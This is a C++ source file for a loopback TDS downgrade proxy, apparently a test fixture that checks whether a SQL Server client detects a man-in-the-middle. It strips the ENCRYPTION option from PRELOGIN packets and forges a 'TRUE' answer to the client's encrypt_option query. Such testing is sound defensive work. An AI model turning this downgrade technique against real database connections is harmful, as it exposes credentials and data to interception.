#include "downgradeproxy.h"

#include "tds_encoder.h"

#include <QByteArray>
#include <QString>
#include <cerrno>
#include <list>
#include <mutex>
#include <netinet/in.h>
#include <poll.h>
#include <stdexcept>
#include <sys/eventfd.h>
#include <sys/socket.h>
#include <thread>
#include <unistd.h>

namespace {

int be16(const QByteArray& b, int at) {
    return (quint8(b[at]) << 8) | quint8(b[at + 1]);
}

bool isTlsRecord(const QByteArray& b) {
    return quint8(b[0]) >= 0x14 && quint8(b[0]) <= 0x17 && b[1] == 0x03;
}

// The attacker's own reading of PRELOGIN: the ENCRYPTION option (token 1) set to
// ENCRYPT_OFF, whatever the sender asked or answered.
QByteArray encryptionOff(QByteArray packet) {
    const QByteArray payload = packet.mid(8);
    for (int at = 0; at + 5 <= payload.size() && quint8(payload[at]) != 0xFF; at += 5)
        if (payload[at] == 0x01 && be16(payload, at + 1) < payload.size())
            packet[8 + be16(payload, at + 1)] = 0x00;
    return packet;
}

QByteArray replyPacket(const QByteArray& data) {
    const int length = int(data.size()) + 8;
    QByteArray p;
    p += char(0x04);
    p += char(0x01);
    p += char(length >> 8);
    p += char(length & 0xFF);
    p += QByteArray(2, '\0');
    p += char(1);
    p += '\0';
    return p + data;
}

bool sendAll(int fd, const QByteArray& data) {
    for (qsizetype done = 0; done < data.size();) {
        const ssize_t n =
            ::send(fd, data.constData() + done, size_t(data.size() - done), MSG_NOSIGNAL);
        if (n <= 0 && errno != EINTR)
            return false;
        if (n > 0)
            done += n;
    }
    return true;
}

// The answer a man in the middle gives the encryption check: one row, "TRUE".
QByteArray forgedEncryptOption() {
    namespace server = testserver::tds;
    const std::vector<testserver::Column> columns{
        {"encrypt_option", testserver::SqlType::NVarChar, 40, true}};
    std::string reply = server::colMetadata(columns);
    server::appendRow(reply, columns, testserver::Row{std::string("TRUE")});
    reply += server::done(server::kDoneCount, server::kCurCmdSelect, 1);
    return replyPacket(QByteArray::fromStdString(reply));
}

} // namespace

struct TDowngradeProxy::Impl {
    quint16 ServerPort = 0;
    int Listener = -1;
    int Wake = -1;
    quint16 Port = 0;
    std::thread Acceptor;
    std::list<std::thread> Pipes;
    mutable std::mutex Mutex;
    QList<int> Plain;
    std::atomic<int> Connections{0};
    std::atomic<int> Forged{0};

    void note(int type) {
        std::lock_guard lock(Mutex);
        Plain << type;
    }

    // Cuts what arrived into TLS records and TDS packets, alters what the attack needs,
    // and says what goes on to the other side (and what goes back).
    QByteArray pass(QByteArray& buffer, bool fromClient, bool& first, QByteArray& back) {
        QByteArray out;
        for (;;) {
            if (buffer.size() < 5)
                break;
            if (isTlsRecord(buffer)) {
                const int length = 5 + be16(buffer, 3);
                if (buffer.size() < length)
                    break;
                out += buffer.left(length);
                buffer.remove(0, length);
                continue;
            }
            if (buffer.size() < 8)
                break;
            const int length = be16(buffer, 2);
            if (length < 8) { // nothing this side can read: pass it on as it is
                out += buffer;
                buffer.clear();
                break;
            }
            if (buffer.size() < length)
                break;
            QByteArray packet = buffer.left(length);
            buffer.remove(0, length);
            const int type = quint8(packet[0]);
            const bool rewrite = first && (fromClient ? type == 0x12 : type == 0x04);
            if (fromClient || type == 0x04)
                first = false;
            if (rewrite)
                packet = encryptionOff(packet);
            if (fromClient) {
                note(type);
                const QString text =
                    QString::fromUtf16(reinterpret_cast<const char16_t*>(packet.constData() + 8),
                                       (packet.size() - 8) / 2);
                if (type == kTdsSqlBatch && text.contains(QStringLiteral("encrypt_option"))) {
                    back += forgedEncryptOption();
                    ++Forged;
                    continue;
                }
            }
            out += packet;
        }
        return out;
    }

    void pipe(int client) {
        int server = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
        sockaddr_in address{};
        address.sin_family = AF_INET;
        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        address.sin_port = htons(ServerPort);
        if (::connect(server, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0) {
            ::close(server);
            ::close(client);
            return;
        }
        QByteArray fromClient, fromServer;
        bool firstUp = true, firstDown = true;
        char chunk[16384];
        pollfd p[3] = {{Wake, POLLIN, 0}, {client, POLLIN, 0}, {server, POLLIN, 0}};
        for (;;) {
            if (::poll(p, 3, -1) < 0 && errno != EINTR)
                break;
            if (p[0].revents)
                break;
            bool open = true;
            for (int side : {1, 2}) {
                if (!(p[side].revents & (POLLIN | POLLHUP | POLLERR)))
                    continue;
                const ssize_t n = ::recv(p[side].fd, chunk, sizeof chunk, 0);
                if (n <= 0) {
                    open = false;
                    break;
                }
                const bool up = side == 1;
                QByteArray& buffer = up ? fromClient : fromServer;
                buffer.append(chunk, n);
                QByteArray back;
                const QByteArray on = pass(buffer, up, up ? firstUp : firstDown, back);
                if (!sendAll(up ? server : client, on) || !sendAll(up ? client : server, back)) {
                    open = false;
                    break;
                }
            }
            if (!open)
                break;
        }
        ::close(server);
        ::close(client);
    }

    void accept() {
        pollfd p[2] = {{Wake, POLLIN, 0}, {Listener, POLLIN, 0}};
        for (;;) {
            if (::poll(p, 2, -1) < 0 && errno != EINTR)
                return;
            if (p[0].revents)
                return;
            const int client = ::accept4(Listener, nullptr, nullptr, SOCK_CLOEXEC);
            if (client < 0)
                continue;
            ++Connections;
            std::lock_guard lock(Mutex);
            Pipes.emplace_back([this, client] { pipe(client); });
        }
    }
};

TDowngradeProxy::TDowngradeProxy(quint16 AServerPort) : d(std::make_unique<Impl>()) {
    d->ServerPort = AServerPort;
    d->Wake = ::eventfd(0, EFD_CLOEXEC);
    d->Listener = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    socklen_t size = sizeof address;
    if (::bind(d->Listener, reinterpret_cast<sockaddr*>(&address), size) != 0 ||
        ::listen(d->Listener, 16) != 0 ||
        ::getsockname(d->Listener, reinterpret_cast<sockaddr*>(&address), &size) != 0)
        throw std::runtime_error("the proxy cannot listen");
    d->Port = ntohs(address.sin_port);
    d->Acceptor = std::thread([this] { d->accept(); });
}

TDowngradeProxy::~TDowngradeProxy() {
    const std::uint64_t one = 1;
    (void)!::write(d->Wake, &one, sizeof one);
    d->Acceptor.join();
    for (std::thread& t : d->Pipes)
        t.join();
    ::close(d->Listener);
    ::close(d->Wake);
}

quint16 TDowngradeProxy::port() const {
    return d->Port;
}

QList<int> TDowngradeProxy::plainFromClient() const {
    std::lock_guard lock(d->Mutex);
    return d->Plain;
}

int TDowngradeProxy::connections() const {
    return d->Connections.load();
}

int TDowngradeProxy::forgedAnswers() const {
    return d->Forged.load();
}
